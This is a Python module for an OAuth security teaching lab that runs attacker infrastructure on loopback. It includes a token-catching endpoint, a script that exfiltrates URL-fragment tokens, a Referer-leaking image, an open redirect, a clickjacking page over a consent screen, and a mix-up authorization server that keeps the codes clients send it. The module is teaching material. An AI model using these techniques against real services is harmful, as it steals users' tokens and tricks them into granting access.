"""What the attacker runs in notebook 12 (the security lab): a website, and an authorization
server of their own. Both on loopback, each on its own origin — neither the app's nor Fernhollow
Accounts' — and nothing leaves this machine.

    site = AttackerSite(lab.app.port + 4)
    site.page("catch")        # where stolen codes and tokens are sent: http://127.0.0.1:8769/catch
    site.caught()             # the parameters each /catch request brought, oldest first
    site.referers()           # the Referer of each request for the banner image it serves

    partner = AttackerAuthorizationServer(lab.port + 8, lab, {"widget-at-partner": "fernhollow-widget"})
    partner.metadata()        # its RFC 8414 metadata, as a client configures itself from it
    partner.token_requests()  # what clients sent its token endpoint

The site's pages are what attackers serve: ``/catch`` keeps what arrives; ``/steal`` is a page
whose script sends its own URL fragment (where the implicit grant puts the access token) to
``/catch``; ``/banner.gif`` is an image, served to other sites' pages, that keeps their Referer;
``/go?to=URL`` sends the visitor's browser on to any URL (a link in a phishing email);
``/prize?frame=URL`` shows a prize button with URL framed over it, nearly transparent
(clickjacking).
"""
from __future__ import annotations

import base64
import html
import json
import re
import textwrap
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlencode, urlsplit

import requests

from .lab import current_lab
from .loopback_site import Site, SiteHandler

# A transparent 1×1 GIF: the banner's pixels matter to nobody, its request to the attacker.
PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
# The script of /steal: in the victim's browser it reads the fragment, which no server ever sees.
STEAL = "fetch('/catch?' + location.hash.slice(1));"
# Where the decoy sits on /prize: exactly under the Allow button of the framed consent page, as
# Chromium lays it out for a one-scope request (tests/browser/test_attacks.py clicks it).
DECOY = {"left": 40, "top": 373, "width": 79, "height": 38}


class _SiteHandler(SiteHandler):
    def page(self, path: str) -> None:
        self.server.received.append({"path": self.path, "referer": self.headers.get("Referer")})
        query = dict(parse_qsl(urlsplit(self.path).query))
        if path == "/catch":
            self.answer(200, "text/html; charset=utf-8", _html("Thank you!", "<p>Nothing to see here.</p>"))
        elif path == "/steal":
            self.answer(200, "text/html; charset=utf-8", _html("Loading…", f"<script>{STEAL}</script>"))
        elif path == "/banner.gif":
            self.answer(200, "image/gif", PIXEL)
        elif path == "/go" and "to" in query:
            self.redirect(query["to"])
        elif path == "/prize" and "frame" in query:
            self.answer(200, "text/html; charset=utf-8", _prize(query["frame"]))
        else:
            self.answer(404, "text/plain; charset=utf-8", "Not here.")


def _html(title: str, body: str) -> str:
    return (f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>{html.escape(title)}"
            f"</title></head><body>{body}</body></html>")


PRIZE = "You won a pair of trail runners!"


def _prize(framed: str) -> str:
    """The clickjacking page: a decoy button, and the framed page on top of it where the user
    cannot see it (opacity .15 here, so that you can; an attacker uses 0)."""
    decoy = ("position:absolute;left:{left}px;top:{top}px;width:{width}px;height:{height}px;padding:0;"
             "font-size:1rem;background:#e8590c;color:white;border:0;border-radius:4px").format(**DECOY)
    frame = "position:absolute;left:0;top:0;width:720px;height:560px;border:0;opacity:.15;z-index:2"
    return _html("You won!", (
        f"<h1 style='margin:1rem 30px;font-family:sans-serif'>{PRIZE}</h1>"
        f"<button style='{decoy}'>Claim!</button>"
        f"<iframe src='{html.escape(framed)}' style='{frame}' title='prize'></iframe>"))


class AttackerSite(Site):
    """The attacker's website: another origin than the app's and the server's."""

    handler = _SiteHandler

    def page(self, name: str, **params) -> str:
        return f"{self.url}/{name}" + (f"?{urlencode(params)}" if params else "")

    def caught(self) -> list[dict]:
        """The parameters of every request to /catch: codes, states, tokens sent there."""
        return [dict(parse_qsl(urlsplit(e["path"]).query)) for e in self.log()
                if urlsplit(e["path"]).path == "/catch"]

    def referers(self) -> list[str | None]:
        """The Referer of every request for /banner.gif: the page the image was shown on."""
        return [e["referer"] for e in self.log() if urlsplit(e["path"]).path == "/banner.gif"]

    def __repr__(self):
        return f"<the attacker's site {self.url}>"


class Window:
    """A page of the attacker's, shown in the notebook the way a browser shows it.

    Live where your browser can load the page (JupyterLab on this machine, once the cell ran): an
    ``<object>``, which shows its fallback content when the page does not load, unlike a frame.
    Everywhere else (nbviewer, GitHub, an HTML export, Binder, whose browser cannot reach these
    loopback ports) the fallback: a drawing of the page, made from the same layout (``_prize``)
    and from the framed page's own content and headers. A caption says what the learner is seeing;
    ``text()`` says it for nbval."""

    def __init__(self, url: str, width: int = 740, height: int = 580):
        self.url, self.width, self.height = url, width, height
        self.framed = dict(parse_qsl(urlsplit(url).query)).get("frame")
        self.refusal, self.framed_page = _framed_page(self.framed) if self.framed else (None, [])

    def caption(self) -> str:
        """What the learner sees in the frame, and why."""
        if not self.framed:
            return "The attacker's page."
        if self.refusal is None:
            return "The framed page did not answer."
        if self.refusal:
            return (f"Your browser refuses to show Fernhollow's page in the attacker's frame: the page "
                    f"answers {self.refusal}. Chromium shows its error page there instead, faint: "
                    f"“{urlsplit(self.framed).hostname} refused to connect” (Firefox: “Firefox Can’t Open "
                    "This Page”). Nothing crashed: that is the defence working, and the decoy is just a button.")
        return ("The framed page shows, nearly transparent (an attacker would make it invisible), "
                "over the decoy: this server lets any site frame its pages.")

    def text(self) -> str:
        where = f", framing {self.framed.split('?')[0]}" if self.framed else ""
        return f"the attacker's page {self.url.split('?')[0]}{where}. {self.caption()}"

    def svg(self) -> str:
        """The page as a browser lays it out (``_prize``), drawn: the prize, the decoy, and over them
        the frame, nearly transparent, with what the browser shows in it."""
        left, top = DECOY["left"], DECOY["top"]
        if self.refusal:  # Chromium's error page: an icon, and one line under it
            inside = ("<rect x='346' y='236' width='28' height='34' rx='2' fill='none' stroke='#5f6368' "
                      "stroke-width='3'/><text x='360' y='310' font-size='16' text-anchor='middle'>"
                      f"{html.escape(urlsplit(self.framed).hostname)} refused to connect.</text>")
        else:
            inside = sketch(self.framed_page)
        return (f"<svg xmlns='http://www.w3.org/2000/svg' width='{self.width}' height='{self.height}' "
                f"viewBox='0 0 {self.width} {self.height}' font-family='sans-serif'>"
                f"<rect width='{self.width}' height='{self.height}' fill='white'/>"
                f"<text x='30' y='52' font-size='32' font-weight='bold'>{html.escape(PRIZE)}</text>"
                f"<rect x='{left}' y='{top}' width='{DECOY['width']}' height='{DECOY['height']}' rx='4' fill='#e8590c'/>"
                f"<text x='{left + DECOY['width'] // 2}' y='{top + 24}' font-size='16' fill='white' "
                f"text-anchor='middle'>Claim!</text><g opacity='.2'>{inside}</g></svg>")

    def _repr_html_(self) -> str:
        picture = base64.b64encode(self.svg().encode()).decode()
        return (f"<div style='display:inline-block;width:{self.width}px;max-width:100%;border:1px solid #adb5bd'>"
                f"<object data='{html.escape(self.url)}' type='text/html' width='{self.width}' "
                f"height='{self.height}' title=\"the attacker's page\">"
                f"<img src='data:image/svg+xml;base64,{picture}' width='{self.width}' height='{self.height}' "
                f"alt='{html.escape(self.text())}' style='max-width:100%;height:auto'>"
                "<br><small>A drawing of the attacker's page: your browser could not load the page "
                "itself here (run the cell in JupyterLab on your own machine to see it live).</small>"
                f"</object></div><p>{html.escape(self.caption())}</p>")

    def __repr__(self) -> str:
        return self.text()


def _framed_page(url: str) -> tuple[str | None, list]:
    """What stops a browser showing `url` in the attacker's frame ("" when nothing does, None when
    the page did not answer), and the page's parts, to draw (``sketch``)."""
    try:
        url = current_lab().back_channel(url)  # behind a proxy the kernel reaches it on loopback
    except RuntimeError:
        pass
    try:
        page = requests.get(url, timeout=5, allow_redirects=False)
    except requests.RequestException:
        return None, []
    parts = _Parts()
    parts.feed(page.text)
    return " and ".join(refusing_headers(page.headers)), parts.found


class _Parts(HTMLParser):
    """A page's visible parts in order: ("h1" | "p" | "label" | "button", text), ("input", ""),
    ("rule", "") where its header ends."""

    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, str]] = []
        self._open: str | None = None

    def handle_starttag(self, tag, attrs):
        if tag in ("h1", "p", "label", "button"):
            self._open = tag
            self.found.append((tag, ""))
        elif tag == "input" and dict(attrs).get("type") != "hidden":
            self.found.append(("input", ""))

    def handle_endtag(self, tag):
        if tag == self._open:
            self._open = None
        elif tag == "header":
            self.found.append(("rule", ""))

    def handle_data(self, data):
        if self._open:
            kind, text = self.found[-1]
            self.found[-1] = (kind, " ".join(f"{text} {data}".split()))


def sketch(parts: list[tuple[str, str]]) -> str:
    """SVG for a page of the server's, laid out roughly as its stylesheet does (a 640 px column at
    40 px in a 720 px frame): headings, paragraphs, labels, fields and buttons, top to bottom."""
    drawn, y = [], 32
    for kind, text in parts:
        if kind == "h1":
            drawn.append(f"<text x='40' y='{y + 32}' font-size='32' font-weight='bold'>{html.escape(text)}</text>")
            y += 58
        elif kind == "rule":
            drawn.append(f"<rect x='40' y='{y}' width='640' height='2' fill='#2d6cdf'/>")
            y += 26
        elif kind in ("p", "label"):
            weight = "bold" if kind == "label" else "normal"
            for line in textwrap.wrap(text, 78) or [""]:
                drawn.append(f"<text x='40' y='{y + 16}' font-size='16' font-weight='{weight}'>{html.escape(line)}</text>")
                y += 22
            y += 10 if kind == "label" else 18
        elif kind == "input":
            drawn.append(f"<rect x='40' y='{y}' width='640' height='34' fill='white' stroke='#767676'/>")
            y += 44
        elif kind == "button":
            drawn.append(f"<rect x='40' y='{y}' width='{24 + 9 * len(text)}' height='36' rx='4' fill='#2d6cdf'/>"
                         f"<text x='52' y='{y + 24}' font-size='16' fill='white'>{html.escape(text)}</text>")
            y += 52
    return "".join(drawn)


def refusing_headers(headers) -> list[str]:
    """The headers that keep a page out of a frame on another origin: X-Frame-Options DENY or
    SAMEORIGIN (RFC 7034 §2.1), or CSP's frame-ancestors 'none' or 'self' (CSP Level 2 §7.7)."""
    refusing = []
    if headers.get("X-Frame-Options", "").strip().upper() in ("DENY", "SAMEORIGIN"):
        refusing.append(f"X-Frame-Options: {headers['X-Frame-Options']}")
    ancestors = re.search(r"frame-ancestors\s+([^;]*)", headers.get("Content-Security-Policy", ""))
    if ancestors and ancestors.group(1).split() in (["'none'"], ["'self'"]):
        refusing.append(f"Content-Security-Policy: {headers['Content-Security-Policy']}")
    return refusing


class _AuthorizationServerHandler(SiteHandler):
    def page(self, path: str) -> None:
        config = self.server.config
        if path == "/.well-known/oauth-authorization-server":
            self.answer(200, "application/json", json.dumps(config["metadata"]))
        elif path == "/authorize":
            # RFC 9700 §4.4.1 step 3: straight on to the honest server, with the client's id there.
            params = dict(parse_qsl(urlsplit(self.path).query))
            params["client_id"] = config["client_ids"].get(params.get("client_id"), "")
            self.server.received.append({"path": self.path})
            self.redirect(f"{config['honest']}?{urlencode(params)}")
        else:
            self.answer(404, "application/json", json.dumps({"error": "not_found"}))

    def post(self, path: str) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        self.server.received.append({"path": self.path, "form": dict(parse_qsl(body))})
        # Whatever the client sent is the attacker's now; the client just sees a failure.
        self.answer(400, "application/json", json.dumps({"error": "invalid_grant"}))


class AttackerAuthorizationServer(Site):
    """The attacker's authorization server (RFC 9700 §4.4's A-AS), just enough for a mix-up:
    metadata, an authorization endpoint that sends every browser on to the honest server's
    (`honest`, a lab), replacing the client's id here by its id there (`client_ids`), and a token
    endpoint that keeps what the client sends it. Not a mock server: an honest server would not
    bounce browsers elsewhere, nor keep the codes it is sent. Its port follows the honest
    server's (``lab.port + 8``): each honest server gets its own, configured by the kernel that
    started it."""

    handler = _AuthorizationServerHandler

    def __init__(self, port: int, honest, client_ids: dict[str, str]):
        super().__init__(port)
        self.configure(honest=honest.metadata["authorization_endpoint"], client_ids=client_ids,
                       metadata={"issuer": self.url, "authorization_endpoint": f"{self.url}/authorize",
                                 "token_endpoint": f"{self.url}/token", "response_types_supported": ["code"]})

    def metadata(self) -> dict:
        return requests.get(f"{self.url}/.well-known/oauth-authorization-server", timeout=5).json()

    def token_requests(self) -> list[dict]:
        """The form of every token request clients sent here: codes and verifiers included."""
        return [e["form"] for e in self.log() if "form" in e]

    def __repr__(self):
        return f"<the attacker's authorization server {self.url}>"
